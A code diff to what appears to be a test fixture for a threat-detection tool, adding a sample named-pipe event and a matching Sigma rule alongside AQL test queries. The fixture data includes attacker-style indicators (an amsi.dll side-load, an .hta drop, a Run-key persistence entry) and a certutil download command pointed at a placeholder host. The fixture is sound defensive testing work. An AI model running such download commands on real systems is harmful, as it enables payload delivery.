@@ -22,6 +22,10 @@ EVENTS: dict[str, dict[str, Any]] = {
     "DeviceImageLoadEvents": {
         "ActionType": "ImageLoaded", "FileName": "amsi.dll", "FolderPath": "C:\\Temp\\amsi.dll",
     },
+    "DeviceEvents": {
+        "ActionType": "NamedPipeEvent", "AdditionalFields": '{"PipeName": "\\\\evil"}',
+        "InitiatingProcessFileName": "a.exe",
+    },
     "DeviceFileEvents": {
         "ActionType": "FileCreated", "FileName": "x.hta", "FolderPath": "C:\\Temp\\x.hta",
     },
@@ -67,6 +71,7 @@ SIGMA = [
     ("category: file_event", "TargetFilename|endswith: .hta", 1),
     ("category: registry_set", "TargetObject|contains: \\CurrentVersion\\Run\\Updater", 1),
     ("category: network_connection", "DestinationHostname: a.example, DestinationPort: 443", 1),
+    ("category: pipe_created", "PipeName|endswith: evil", 1),
     ("service: security", "EventID: 4688", 0),
 ]
 
@@ -111,7 +116,7 @@ AQL = [
      [("ann", "192.0.2.1")]),
     (("SELECT devicetype, COUNT(*) AS c FROM events GROUP BY devicetype ORDER BY devicetype"
      " START '2026-03-01 00:00' STOP '2026-04-01 00:00'"),
-     [(347, 4), (397, 4), (433, 6), (445, 3)]),
+     [(347, 4), (397, 4), (433, 7), (445, 3)]),
     (("SELECT \"Process CommandLine\" FROM events WHERE \"Process Name\" = 'certutil.exe'"
      " START '2026-03-01 00:00' STOP '2026-04-01 00:00'"),
      [("certutil.exe -urlcache http://a.example/x",)]),
